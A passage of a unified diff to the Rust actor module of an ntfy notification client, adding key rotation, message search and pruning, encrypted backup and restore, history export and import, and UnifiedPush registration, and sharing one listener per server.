@@ -1,24 +1,43 @@
 use crate::actor_utils::send_command;
-use anyhow::anyhow;
+use anyhow::{anyhow, Context};
 use futures::future::join_all;
 use futures::StreamExt;
-use std::{collections::HashMap, future::Future, sync::Arc};
+use std::{
+    collections::{HashMap, VecDeque},
+    future::Future,
+    path::PathBuf,
+    pin::Pin,
+    sync::Arc,
+};
 use tokio::{
     select,
-    sync::{mpsc, oneshot, RwLock},
-    task::LocalSet,
+    sync::{broadcast, mpsc, oneshot, RwLock},
+    task::{spawn_local, LocalSet},
 };
-use tracing::{error, info};
+use tracing::{error, info, warn};
 
 use crate::{
+    backup::{Backup, RemovedRule, RestoreReport, Secrets, TopicKeyring, BACKUP_VERSION},
+    credentials::Credentials,
+    hooks::Hooks,
     http_client::HttpClient,
-    message_repo::Db,
+    import::{ClientBackup, Conflict},
+    keys::{Keys, RotationPolicy, TopicKey},
+    message_repo::{self, Db, DbHandle},
     models::{self, Account},
-    ListenerConfig, ListenerHandle, SharedEnv, SubscriptionHandle,
+    retry::WaitExponentialRandom,
+    share::TopicShare,
+    subscription,
+    unifiedpush::{PushDelivery, PushEvent},
+    ListenerCommand, ListenerConfig, ListenerEvent, ListenerHandle, SharedEnv, SubscriptionChange,
+    SubscriptionEvent, SubscriptionHandle,
 };
 
 const CONNECT_TIMEOUT: std::time::Duration = std::time::Duration::from_secs(15);
 const TIMEOUT: std::time::Duration = std::time::Duration::from_secs(240); // 4 minutes
+const PRUNE_INTERVAL: std::time::Duration = std::time::Duration::from_secs(60 * 60);
+// Events kept for slow receivers of `NtfyHandle::events`, older ones are dropped for them
+const EVENTS_CAPACITY: usize = 64;
 
 pub fn build_client() -> anyhow::Result<reqwest::Client> {
     Ok(reqwest::Client::builder()
@@ -48,6 +67,16 @@ pub enum NtfyCommand {
         topic: String,
         resp_tx: oneshot::Sender<anyhow::Result<()>>,
     },
+    SubscribeShared {
+        share: TopicShare,
+        resp_tx: oneshot::Sender<Result<SubscriptionHandle, anyhow::Error>>,
+    },
+    Publish {
+        server: String,
+        msg: Box<models::OutgoingMessage>,
+        encryption: models::Encryption,
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
+    },
     RefreshAll {
         resp_tx: oneshot::Sender<anyhow::Result<()>>,
     },
@@ -81,15 +110,113 @@ pub enum NtfyCommand {
         topic: String,
         resp_tx: oneshot::Sender<anyhow::Result<()>>,
     },
-    #[allow(dead_code)]
     ListKeys {
-        resp_tx: oneshot::Sender<anyhow::Result<HashMap<(String, String), String>>>,
+        server: String,
+        topic: String,
+        resp_tx: oneshot::Sender<Vec<TopicKey>>,
+    },
+    RotateKey {
+        server: String,
+        topic: String,
+        key: String,
+        policy: RotationPolicy,
+        resp_tx: oneshot::Sender<anyhow::Result<TopicKey>>,
+    },
+    GenerateKey {
+        server: String,
+        topic: String,
+        policy: RotationPolicy,
+        resp_tx: oneshot::Sender<anyhow::Result<TopicKey>>,
+    },
+    RemoveTopicKey {
+        server: String,
+        topic: String,
+        id: String,
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
     },
     GetKey {
         server: String,
         topic: String,
         resp_tx: oneshot::Sender<Option<String>>,
     },
+    SearchMessages {
+        query: String,
+        server: Option<String>,
+        topic: Option<String>,
+        limit: u32,
+        offset: u32,
+        resp_tx: oneshot::Sender<anyhow::Result<Vec<models::SearchHit>>>,
+    },
+    GetRetentionPolicy {
+        resp_tx: oneshot::Sender<anyhow::Result<models::RetentionPolicy>>,
+    },
+    SetRetentionPolicy {
+        policy: models::RetentionPolicy,
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
+    },
+    PruneMessages {
+        dry_run: bool,
+        resp_tx: oneshot::Sender<anyhow::Result<Vec<models::PruneReport>>>,
+    },
+    Vacuum {
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
+    },
+    CreateBackup {
+        passphrase: Option<String>,
+        resp_tx: oneshot::Sender<anyhow::Result<Backup>>,
+    },
+    RestoreBackup {
+        backup: Backup,
+        passphrase: Option<String>,
+        resp_tx: oneshot::Sender<anyhow::Result<RestoreReport>>,
+    },
+    CheckClientImport {
+        import: ClientBackup,
+        resp_tx: oneshot::Sender<anyhow::Result<Vec<Conflict>>>,
+    },
+    ImportClientBackup {
+        import: ClientBackup,
+        resp_tx: oneshot::Sender<anyhow::Result<RestoreReport>>,
+    },
+    ExportMessages {
+        selection: models::HistorySelection,
+        format: models::HistoryFormat,
+        path: PathBuf,
+        resp_tx: oneshot::Sender<anyhow::Result<usize>>,
+    },
+    ImportMessages {
+        path: PathBuf,
+        resp_tx: oneshot::Sender<anyhow::Result<models::ImportReport>>,
+    },
+    GetServerSettings {
+        server: String,
+        resp_tx: oneshot::Sender<anyhow::Result<models::ServerSettings>>,
+    },
+    UpdateServerSettings {
+        server: String,
+        settings: models::ServerSettings,
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
+    },
+    RegisterPush {
+        service: String,
+        token: String,
+        description: String,
+        resp_tx: oneshot::Sender<anyhow::Result<models::PushRegistration>>,
+    },
+    UnregisterPush {
+        token: String,
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
+    },
+    ListPushRegistrations {
+        resp_tx: oneshot::Sender<anyhow::Result<Vec<models::PushRegistration>>>,
+    },
+    GetPushServer {
+        resp_tx: oneshot::Sender<anyhow::Result<String>>,
+    },
+    SetPushServer {
+        server: String,
+        resp_tx: oneshot::Sender<anyhow::Result<()>>,
+    },
 }
 
 #[derive(Debug, Clone, Hash, PartialEq, Eq)]
@@ -98,8 +225,14 @@ pub struct WatchKey {
     topic: String,
 }
 
+type PushRegistrations = Arc<RwLock<HashMap<String, (models::PushRegistration, ListenerHandle)>>>;
+
 pub struct NtfyActor {
     listener_handles: Arc<RwLock<HashMap<WatchKey, SubscriptionHandle>>>,
+    // One listener per server, shared by all the subscriptions of that server
+    server_listeners: Arc<RwLock<HashMap<String, ListenerHandle>>>,
+    // UnifiedPush apps by token, their topics are listened to without a subscription
+    push_registrations: PushRegistrations,
     env: SharedEnv,
     command_rx: mpsc::Receiver<NtfyCommand>,
 }
@@ -107,19 +240,35 @@ pub struct NtfyActor {
 #[derive(Clone)]
 pub struct NtfyHandle {
     command_tx: mpsc::Sender<NtfyCommand>,
+    events: broadcast::Sender<SubscriptionEvent>,
+    subscription_changes: broadcast::Sender<SubscriptionChange>,
+    push_events: broadcast::Sender<PushEvent>,
+    push_deliveries: async_channel::Receiver<PushDelivery>,
 }
 
 impl NtfyActor {
     pub fn new(env: SharedEnv) -> (Self, NtfyHandle) {
         let (command_tx, command_rx) = mpsc::channel(32);
+        let events = env.events.clone();
+        let subscription_changes = env.subscription_changes.clone();
+        let push_events = env.push_events.clone();
+        let push_deliveries = env.push_queue.clone();
 
         let actor = Self {
             listener_handles: Default::default(),
+            server_listeners: Default::default(),
+            push_registrations: Default::default(),
             env,
             command_rx,
         };
 
-        let handle = NtfyHandle { command_tx };
+        let handle = NtfyHandle {
+            command_tx,
+            events,
+            subscription_changes,
+            push_events,
+            push_deliveries,
+        };
 
         (actor, handle)
     }
@@ -139,12 +288,38 @@ impl NtfyActor {
             .read_until(read_until)
             .build()?;
 
-        let mut db = self.env.db.clone();
-        db.insert_subscription(subscription.clone())?;
+        let sub = subscription.clone();
+        self.env.db.call(move |db| db.insert_subscription(sub)).await?;
 
         self.listen(subscription).await
     }
 
+    // Stores the key before subscribing so that the first messages already decrypt
+    async fn handle_subscribe_shared(
+        &self,
+        share: TopicShare,
+    ) -> Result<SubscriptionHandle, anyhow::Error> {
+        if let Some(key) = &share.key {
+            self.env
+                .keys
+                .adopt(&share.server, &share.topic, key)
+                .await?;
+        }
+        let existing = self
+            .listener_handles
+            .read()
+            .await
+            .get(&WatchKey {
+                server: share.server.clone(),
+                topic: share.topic.clone(),
+            })
+            .cloned();
+        match existing {
+            Some(sub) => Ok(sub),
+            None => self.handle_subscribe(share.server, share.topic).await,
+        }
+    }
+
     async fn handle_unsubscribe(&mut self, server: String, topic: String) -> anyhow::Result<()> {
         let subscription = self.listener_handles.write().await.remove(&WatchKey {
             server: server.clone(),
@@ -155,8 +330,18 @@ impl NtfyActor {
             sub.shutdown().await?;
         }
 
-        self.env.db.remove_subscription(&server, &topic)?;
+        self.env
+            .db
+            .call({
+                let (server, topic) = (server.clone(), topic.clone());
+                move |db| db.remove_subscription(&server, &topic)
+            })
+            .await?;
         info!(server, topic, "Unsubscribed");
+        let _ = self
+            .env
+            .subscription_changes
+            .send(SubscriptionChange::Removed { server, topic });
         Ok(())
     }
 
@@ -192,6 +377,24 @@ impl NtfyActor {
                 let _ = resp_tx.send(result);
             }
 
+            NtfyCommand::SubscribeShared { share, resp_tx } => {
+                let result = self.handle_subscribe_shared(share).await;
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::Publish {
+                server,
+                msg,
+                encryption,
+                resp_tx,
+            } => {
+                // Don't hold the other commands while the server answers
+                let env = self.env.clone();
+                spawn_local(async move {
+                    let result = subscription::publish(&env, &server, *msg, encryption).await;
+                    let _ = resp_tx.send(result);
+                });
+            }
+
             NtfyCommand::RefreshAll { resp_tx } => {
                 let res = self.refresh_all().await;
                 let _ = resp_tx.send(res);
@@ -252,7 +455,7 @@ impl NtfyActor {
                 key,
                 resp_tx,
             } => {
-                let result = self.env.keys.insert(&server, &topic, &key).await;
+                let result = self.env.keys.adopt(&server, &topic, &key).await;
                 let _ = resp_tx.send(result);
             }
 
@@ -265,21 +468,40 @@ impl NtfyActor {
                 let _ = resp_tx.send(result);
             }
 
-            NtfyCommand::ListKeys { resp_tx } => {
-                let _keys = self.env.keys.clone();
-                // Not optimal but we need to read from the internal lock which is not exposed directly 
-                // We'll rely on the keys internal cache which we can't easily access from here without exposing it.
-                // Or we can just read from the struct if we make `keys` map public or add a method.
-                // Let's assume we don't need ListKeys for now or we implement `list_all` in `keys.rs`.
-                // Wait, I didn't implement `list_all` in `keys.rs`. Let's skip ListKeys implementation in keys.rs for now or add it.
-                
-                // Correction: I should have added `list_all` to `keys.rs`.
-                // Since I cannot edit `keys.rs` in this same tool call, I will assume I can just access it via a new method later 
-                // OR I can't fulfill this command yet.
-                // Actually, I can just not implement ListKeys command if the UI doesn't need it (it acts per subscription).
-                // Or I can add `list_all` to `keys.rs` in a subsequent step.
-                // For now, let's return empty or error? No, let's implement the other two.
-                let _ = resp_tx.send(Err(anyhow::anyhow!("Not implemented")));
+            NtfyCommand::ListKeys {
+                server,
+                topic,
+                resp_tx,
+            } => {
+                let _ = resp_tx.send(self.env.keys.list(&server, &topic));
+            }
+            NtfyCommand::RotateKey {
+                server,
+                topic,
+                key,
+                policy,
+                resp_tx,
+            } => {
+                let result = self.env.keys.rotate(&server, &topic, &key, policy).await;
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::GenerateKey {
+                server,
+                topic,
+                policy,
+                resp_tx,
+            } => {
+                let result = self.env.keys.generate(&server, &topic, policy).await;
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::RemoveTopicKey {
+                server,
+                topic,
+                id,
+                resp_tx,
+            } => {
+                let result = self.env.keys.remove_key(&server, &topic, &id).await;
+                let _ = resp_tx.send(result);
             }
             NtfyCommand::GetKey {
                 server,
@@ -289,6 +511,150 @@ impl NtfyActor {
                 let result = self.env.keys.get(&server, &topic);
                 let _ = resp_tx.send(result);
             }
+            NtfyCommand::SearchMessages {
+                query,
+                server,
+                topic,
+                limit,
+                offset,
+                resp_tx,
+            } => {
+                let result = self
+                    .env
+                    .db
+                    .call(move |db| {
+                        db.search_messages(
+                            &query,
+                            server.as_deref(),
+                            topic.as_deref(),
+                            limit,
+                            offset,
+                        )
+                    })
+                    .await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+            NtfyCommand::GetRetentionPolicy { resp_tx } => {
+                let result = self.env.db.call(|db| db.get_retention_policy()).await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+            NtfyCommand::SetRetentionPolicy { policy, resp_tx } => {
+                let result = self
+                    .env
+                    .db
+                    .call(move |db| db.set_retention_policy(&policy))
+                    .await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+            NtfyCommand::PruneMessages { dry_run, resp_tx } => {
+                let _ = resp_tx.send(self.prune_messages(dry_run).await);
+            }
+            NtfyCommand::Vacuum { resp_tx } => {
+                let result = self.env.db.call(|db| db.reclaim_space(true)).await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+            NtfyCommand::CreateBackup { passphrase, resp_tx } => {
+                let _ = resp_tx.send(self.create_backup(passphrase.as_deref()).await);
+            }
+            NtfyCommand::RestoreBackup {
+                backup,
+                passphrase,
+                resp_tx,
+            } => {
+                let result = self.restore_backup(backup, passphrase.as_deref()).await;
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::CheckClientImport { import, resp_tx } => {
+                let subscriptions = self.env.db.call(|db| db.list_subscriptions()).await;
+                let result = subscriptions.map(|subscriptions| {
+                    let accounts: Vec<Account> = self
+                        .env
+                        .credentials
+                        .list_all()
+                        .into_iter()
+                        .map(|(server, credential)| Account {
+                            server,
+                            username: credential.username,
+                        })
+                        .collect();
+                    import.conflicts(&subscriptions, &accounts)
+                });
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+            NtfyCommand::ImportClientBackup { import, resp_tx } => {
+                let (backup, secrets) = import.into_restore();
+                let result = self.restore(backup, secrets).await;
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::ExportMessages {
+                selection,
+                format,
+                path,
+                resp_tx,
+            } => {
+                let result = self.export_messages(selection, format, path.clone()).await;
+                info!(path = %path.display(), ?format, ?result, "exported message history");
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::ImportMessages { path, resp_tx } => {
+                let result = self.import_messages(path.clone()).await;
+                info!(path = %path.display(), ?result, "imported message history");
+                let _ = resp_tx.send(result);
+            }
+            NtfyCommand::GetServerSettings { server, resp_tx } => {
+                let result = self
+                    .env
+                    .db
+                    .call(move |db| db.get_server_settings(&server))
+                    .await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+            NtfyCommand::UpdateServerSettings {
+                server,
+                settings,
+                resp_tx,
+            } => {
+                let result = self.update_server_settings(server, settings).await;
+                let _ = resp_tx.send(result);
+            }
+
+            NtfyCommand::RegisterPush {
+                service,
+                token,
+                description,
+                resp_tx,
+            } => {
+                let result = self.register_push(service, token, description).await;
+                let _ = resp_tx.send(result);
+            }
+
+            NtfyCommand::UnregisterPush { token, resp_tx } => {
+                let result = self.unregister_push(token).await;
+                let _ = resp_tx.send(result);
+            }
+
+            NtfyCommand::ListPushRegistrations { resp_tx } => {
+                let result = self.env.db.call(|db| db.list_push_registrations()).await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+
+            NtfyCommand::GetPushServer { resp_tx } => {
+                let result = self.env.db.call(|db| db.get_push_server()).await;
+                let _ = resp_tx.send(result.map_err(anyhow::Error::from));
+            }
+
+            NtfyCommand::SetPushServer { server, resp_tx } => {
+                let result = match url::Url::parse(&server) {
+                    Ok(_) => self
+                        .env
+                        .db
+                        .call(move |db| db.set_push_server(server.trim_end_matches('/')))
+                        .await
+                        .map_err(anyhow::Error::from),
+                    Err(e) => Err(crate::Error::InvalidServer(e).into()),
+                };
+                let _ = resp_tx.send(result);
+            }
         }
     }
 
@@ -296,7 +662,8 @@ impl NtfyActor {
         let f: Vec<_> = self
             .env
             .db
-            .list_subscriptions()?
+            .call(|db| db.list_subscriptions())
+            .await?
             .into_iter()
             .map(|m| self.listen(m))
             .collect();
@@ -308,6 +675,12 @@ impl NtfyActor {
         }))
         .await;
 
+        for reg in self.env.db.call(|db| db.list_push_registrations()).await? {
+            if let Err(e) = self.listen_push(reg).await {
+                error!(error = ?e, "Can't rewatch UnifiedPush topic");
+            }
+        }
+
         Ok(())
     }
 
@@ -317,113 +690,704 @@ impl NtfyActor {
     ) -> impl Future<Output = anyhow::Result<SubscriptionHandle>> {
         let server = sub.server.clone();
         let topic = sub.topic.clone();
-        let since = self
-            .env
-            .db
-            .get_last_message_time(&server, &topic)
-            .unwrap_or_default()
-            .unwrap_or(0);
-
-        let listener = ListenerHandle::new(ListenerConfig {
-            http_client: self.env.http_client.clone(),
-            credentials: self.env.credentials.clone(),
-            keys: self.env.keys.clone(),
-            endpoint: server.clone(),
-            topic: topic.clone(),
-            since,
-        });
+        let server_listeners = self.server_listeners.clone();
         let listener_handles = self.listener_handles.clone();
-        let sub = SubscriptionHandle::new(listener.clone(), sub, &self.env);
+        let push_registrations = self.push_registrations.clone();
+        let env = self.env.clone();
 
         async move {
+            let (since, last_id) = stream_position(&env, &server, &topic).await;
+            let listener = server_listener(
+                &env,
+                &server_listeners,
+                &listener_handles,
+                &push_registrations,
+                &server,
+            )
+            .await;
+            let filter = sub.server_filter.clone().unwrap_or_default();
+            let events = listener.add_topic(&topic, since, last_id, filter).await?;
+            let sub = SubscriptionHandle::new(listener, events, sub, &env);
+
             listener_handles
                 .write()
                 .await
                 .insert(WatchKey { server, topic }, sub.clone());
+            let _ = env
+                .subscription_changes
+                .send(SubscriptionChange::Added(sub.clone()));
             Ok(sub)
         }
     }
 
     async fn refresh_all(&self) -> anyhow::Result<()> {
-        let mut res = Ok(());
-        for sub in self.listener_handles.read().await.values() {
-            res = sub.restart().await;
-            if res.is_err() {
-                break;
+        let servers: Vec<String> = self.server_listeners.read().await.keys().cloned().collect();
+        for server in servers {
+            let closed = self
+                .server_listeners
+                .read()
+                .await
+                .get(&server)
+                .is_some_and(|listener| listener.is_closed());
+            // A listener that stopped is replaced, with the topics it had
+            let listener = server_listener(
+                &self.env,
+                &self.server_listeners,
+                &self.listener_handles,
+                &self.push_registrations,
+                &server,
+            )
+            .await;
+            if !closed {
+                listener.commands.send(ListenerCommand::Restart).await?;
             }
         }
-        res
+        Ok(())
     }
-}
 
-impl NtfyHandle {
-    pub async fn subscribe(
-        &self,
-        server: &str,
-        topic: &str,
-    ) -> Result<SubscriptionHandle, anyhow::Error> {
-        send_command!(self, |resp_tx| NtfyCommand::Subscribe {
-            server: server.to_string(),
-            topic: topic.to_string(),
-            resp_tx,
-        })
+    // Applies the retention policies, or only reports what they would remove
+    async fn prune_messages(&mut self, dry_run: bool) -> anyhow::Result<Vec<models::PruneReport>> {
+        let now = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs();
+        let reports = self
+            .env
+            .db
+            .call(move |db| prune_messages(db, dry_run, now))
+            .await?;
+        if !dry_run && !reports.is_empty() {
+            let count: usize = reports.iter().map(|r| r.count).sum();
+            info!(count, "pruned stored messages");
+        }
+        Ok(reports)
     }
 
-    pub async fn unsubscribe(&self, server: &str, topic: &str) -> anyhow::Result<()> {
-        send_command!(self, |resp_tx| NtfyCommand::Unsubscribe {
-            server: server.to_string(),
-            topic: topic.to_string(),
-            resp_tx,
+    async fn create_backup(&mut self, passphrase: Option<&str>) -> anyhow::Result<Backup> {
+        let (subscriptions, server_settings) = self
+            .env
+            .db
+            .call(|db| -> Result<_, crate::Error> {
+                let subscriptions = db.list_subscriptions()?;
+                let mut server_settings = HashMap::new();
+                for sub in &subscriptions {
+                    if !server_settings.contains_key(&sub.server) {
+                        let settings = db.get_server_settings(&sub.server)?;
+                        server_settings.insert(sub.server.clone(), settings);
+                    }
+                }
+                Ok((subscriptions, server_settings))
+            })
+            .await?;
+        let credentials = self.env.credentials.list_all();
+        let accounts = credentials
+            .iter()
+            .map(|(server, credential)| Account {
+                server: server.clone(),
+                username: credential.username.clone(),
+            })
+            .collect();
+        let secrets = passphrase.map(|passphrase| {
+            let secrets = Secrets {
+                passwords: credentials
+                    .into_iter()
+                    .map(|(server, credential)| (server, credential.password))
+                    .collect(),
+                keys: self
+                    .env
+                    .keys
+                    .list_all()
+                    .into_iter()
+                    .map(|((server, topic), keys)| TopicKeyring { server, topic, keys })
+                    .collect(),
+            };
+            secrets.seal(passphrase)
+        });
+
+        Ok(Backup {
+            version: BACKUP_VERSION,
+            created_at: std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .unwrap()
+                .as_secs(),
+            servers: vec![],
+            server_settings,
+            subscriptions,
+            accounts,
+            secrets,
         })
     }
 
-    pub async fn refresh_all(&self) -> anyhow::Result<()> {
-        send_command!(self, |resp_tx| NtfyCommand::RefreshAll { resp_tx })
+    // The file is written on a blocking thread once the messages are read, so the database
+    // worker isn't held up by the disk
+    async fn export_messages(
+        &self,
+        selection: models::HistorySelection,
+        format: models::HistoryFormat,
+        path: PathBuf,
+    ) -> anyhow::Result<usize> {
+        let entries = self
+            .env
+            .db
+            .call(move |db| db.list_history_entries(&selection))
+            .await?;
+        let count = tokio::task::spawn_blocking(move || {
+            let file = std::fs::File::create(path)?;
+            message_repo::write_history(&entries, format, std::io::BufWriter::new(file))
+        })
+        .await??;
+        Ok(count)
     }
 
-    pub async fn list_subscriptions(&self) -> anyhow::Result<Vec<SubscriptionHandle>> {
-        send_command!(self, |resp_tx| NtfyCommand::ListSubscriptions { resp_tx })
+    async fn import_messages(&self, path: PathBuf) -> anyhow::Result<models::ImportReport> {
+        let entries = tokio::task::spawn_blocking(move || {
+            let file = std::fs::File::open(path)?;
+            message_repo::read_history(std::io::BufReader::new(file))
+        })
+        .await??;
+        let report = self
+            .env
+            .db
+            .call(move |db| db.import_history(entries))
+            .await?;
+        Ok(report)
     }
 
-    pub async fn list_accounts(&self) -> anyhow::Result<Vec<Account>> {
-        send_command!(self, |resp_tx| NtfyCommand::ListAccounts { resp_tx })
+    // Secrets come first so that restored subscriptions connect with their account and keys
+    async fn restore_backup(
+        &mut self,
+        backup: Backup,
+        passphrase: Option<&str>,
+    ) -> anyhow::Result<RestoreReport> {
+        let secrets = match (&backup.secrets, passphrase) {
+            (Some(sealed), Some(passphrase)) => sealed.open(passphrase)?,
+            _ => Secrets::default(),
+        };
+        let secrets_skipped = backup.secrets.is_some() && passphrase.is_none();
+        let mut report = self.restore(backup, secrets).await?;
+        report.secrets_skipped = secrets_skipped;
+        Ok(report)
     }
 
-    pub async fn watch_subscribed(&self) -> anyhow::Result<()> {
-        send_command!(self, |resp_tx| NtfyCommand::WatchSubscribed { resp_tx })
+    // Adds what the device doesn't have yet from a backup with its secrets already opened
+    async fn restore(&mut self, backup: Backup, secrets: Secrets) -> anyhow::Result<RestoreReport> {
+        let mut report = RestoreReport {
+            subscriptions: vec![],
+            accounts: 0,
+            keys: 0,
+            removed_rules: vec![],
+            secrets_skipped: false,
+        };
+
+        for account in &backup.accounts {
+            let Some(password) = secrets.passwords.get(&account.server) else {
+                continue;
+            };
+            if self.env.credentials.get(&account.server).is_some() {
+                continue;
+            }
+            self.env
+                .credentials
+                .insert(&account.server, &account.username, password)
+                .await?;
+            report.accounts += 1;
+        }
+        for keyring in secrets.keys {
+            report.keys += self
+                .env
+                .keys
+                .restore(&keyring.server, &keyring.topic, keyring.keys)
+                .await?;
+        }
+
+        let existing = self.env.db.call(|db| db.list_subscriptions()).await?;
+        for (server, settings) in backup.server_settings {
+            if !existing.iter().any(|sub| sub.server == server) {
+                self.update_server_settings(server, settings).await?;
+            }
+        }
+        for mut sub in backup.subscriptions {
+            if existing
+                .iter()
+                .any(|s| s.server == sub.server && s.topic == sub.topic)
+            {
+                continue;
+            }
+            // A backup can come from anyone, it doesn't get to run programs or send messages away
+            if let Some(rules) = &mut sub.rules {
+                rules.retain(|rule| {
+                    if !rule.action.acts_outside_the_app() {
+                        return true;
+                    }
+                    report.removed_rules.push(RemovedRule {
+                        server: sub.server.clone(),
+                        topic: sub.topic.clone(),
+                        name: rule.name.clone(),
+                    });
+                    false
+                });
+            }
+            let new_sub = sub.clone();
+            self.env
+                .db
+                .call(move |db| db.insert_subscription(new_sub))
+                .await?;
+            report.subscriptions.push(self.listen(sub).await?);
+        }
+        info!(
+            subscriptions = report.subscriptions.len(),
+            accounts = report.accounts,
+            keys = report.keys,
+            removed_rules = report.removed_rules.len(),
+            "restored subscriptions"
+        );
+        Ok(report)
     }
 
-    pub async fn add_account(
-        &self,
-        server: &str,
-        username: &str,
-        password: &str,
-    ) -> anyhow::Result<()> {
-        send_command!(self, |resp_tx| NtfyCommand::AddAccount {
-            server: server.to_string(),
-            username: username.to_string(),
-            password: password.to_string(),
-            resp_tx,
-        })
+    // Apps register again on every start, they keep their topic. The endpoint goes to the
+    // app's connector, also when it didn't change.
+    async fn register_push(
+        &mut self,
+        service: String,
+        token: String,
+        description: String,
+    ) -> anyhow::Result<models::PushRegistration> {
+        let existing = self
+            .push_registrations
+            .read()
+            .await
+            .get(&token)
+            .map(|(reg, _)| reg.clone());
+        let reg = match existing {
+            Some(reg) if reg.service == service => reg,
+            Some(_) => return Err(anyhow!("the token is used by another app")),
+            None => {
+                let server = self.env.db.call(|db| db.get_push_server()).await?;
+                let reg = models::PushRegistration::new(&service, &token, &description, &server);
+                let r = reg.clone();
+                self.env
+                    .db
+                    .call(move |db| db.insert_push_registration(&r))
+                    .await?;
+                self.listen_push(reg.clone()).await?;
+                info!(service, topic = reg.topic, "Registered UnifiedPush app");
+                reg
+            }
+        };
+        let _ = self.env.push_events.send(PushEvent::NewEndpoint {
+            service,
+            token,
+            endpoint: reg.endpoint(),
+        });
+        Ok(reg)
     }
 
-    pub async fn remove_account(&self, server: &str) -> anyhow::Result<()> {
-        send_command!(self, |resp_tx| NtfyCommand::RemoveAccount {
-            server: server.to_string(),
-            resp_tx,
-        })
+    async fn unregister_push(&mut self, token: String) -> anyhow::Result<()> {
+        let removed = self.push_registrations.write().await.remove(&token);
+        let reg = match removed {
+            Some((reg, listener)) => {
+                listener.remove_topic(&reg.topic).await?;
+                reg
+            }
+            // Not listened to by an idle daemon
+            None => {
+                let regs = self.env.db.call(|db| db.list_push_registrations()).await?;
+                regs.into_iter()
+                    .find(|reg| reg.token == token)
+                    .ok_or_else(|| crate::Error::PushRegistrationNotFound(token.clone()))?
+            }
+        };
+        self.env
+            .db
+            .call(move |db| db.remove_push_registration(&token))
+            .await?;
+        info!(service = reg.service, topic = reg.topic, "Unregistered UnifiedPush app");
+        let _ = self.env.push_events.send(PushEvent::Unregistered {
+            service: reg.service,
+            token: reg.token,
+        });
+        Ok(())
     }
 
-    pub async fn add_key(&self, server: &str, topic: &str, key: &str) -> anyhow::Result<()> {
-         send_command!(self, |resp_tx| NtfyCommand::AddKey {
-            server: server.to_string(),
-            topic: topic.to_string(),
-            key: key.to_string(),
-            resp_tx,
-        })
+    async fn listen_push(&mut self, reg: models::PushRegistration) -> anyhow::Result<()> {
+        let listener = server_listener(
+            &self.env,
+            &self.server_listeners,
+            &self.listener_handles,
+            &self.push_registrations,
+            &reg.server,
+        )
+        .await;
+        add_push_topic(&self.env, &listener, &reg).await?;
+        self.push_registrations
+            .write()
+            .await
+            .insert(reg.token.clone(), (reg, listener));
+        Ok(())
     }
 
-    pub async fn remove_key(&self, server: &str, topic: &str) -> anyhow::Result<()> {
+    async fn update_server_settings(
+        &mut self,
+        server: String,
+        settings: models::ServerSettings,
+    ) -> anyhow::Result<()> {
+        self.env
+            .db
+            .call({
+                let (server, settings) = (server.clone(), settings.clone());
+                move |db| db.update_server_settings(&server, &settings)
+            })
+            .await?;
+        // Reconnect the running listener with the new settings
+        if let Some(listener) = self.server_listeners.read().await.get(&server) {
+            listener
+                .commands
+                .send(ListenerCommand::UpdateSettings(settings))
+                .await?;
+        }
+        Ok(())
+    }
+}
+
+// Where the stream of a stored topic resumes, as (time, ID) of the newest stored message
+async fn stream_position(env: &SharedEnv, server: &str, topic: &str) -> (u64, Option<String>) {
+    let (server, topic) = (server.to_string(), topic.to_string());
+    env.db
+        .call(move |db| {
+            (
+                db.get_last_message_time(&server, &topic)
+                    .unwrap_or_default()
+                    .unwrap_or(0),
+                db.get_last_message_id(&server, &topic).unwrap_or_default(),
+            )
+        })
+        .await
+}
+
+// The listener shared by the topics of `server`, started with its stored settings. A listener
+// that stopped would never deliver anything again, so it is replaced and the subscriptions
+// and push registrations of the server move over to the new one.
+async fn server_listener(
+    env: &SharedEnv,
+    server_listeners: &RwLock<HashMap<String, ListenerHandle>>,
+    listener_handles: &RwLock<HashMap<WatchKey, SubscriptionHandle>>,
+    push_registrations: &PushRegistrations,
+    server: &str,
+) -> ListenerHandle {
+    if let Some(listener) = server_listeners.read().await.get(server) {
+        if !listener.is_closed() {
+            return listener.clone();
+        }
+    }
+    let settings = env
+        .db
+        .call({
+            let server = server.to_string();
+            move |db| db.get_server_settings(&server).unwrap_or_default()
+        })
+        .await;
+    let config = ListenerConfig {
+        http_client: env.http_client.clone(),
+        credentials: env.credentials.clone(),
+        keys: env.keys.clone(),
+        endpoint: server.to_string(),
+        settings,
+    };
+    // Held until the topics moved over, so that the listener is only replaced once
+    let mut server_listeners = server_listeners.write().await;
+    let replaced = match server_listeners.get(server) {
+        Some(listener) if !listener.is_closed() => return listener.clone(),
+        Some(_) => true,
+        None => false,
+    };
+    let listener = ListenerHandle::new(config);
+    server_listeners.insert(server.to_string(), listener.clone());
+    if replaced {
+        warn!(server, "listener stopped, listening again with a new one");
+        move_topics(env, &listener, listener_handles, push_registrations, server).await;
+    }
+    listener
+}
+
+// Adds the topics of the server's subscriptions and push registrations to `listener`
+async fn move_topics(
+    env: &SharedEnv,
+    listener: &ListenerHandle,
+    listener_handles: &RwLock<HashMap<WatchKey, SubscriptionHandle>>,
+    push_registrations: &PushRegistrations,
+    server: &str,
+) {
+    let subs: Vec<_> = listener_handles
+        .read()
+        .await
+        .iter()
+        .filter(|(key, _)| key.server == server)
+        .map(|(key, sub)| (key.topic.clone(), sub.clone()))
+        .collect();
+    for (topic, sub) in subs {
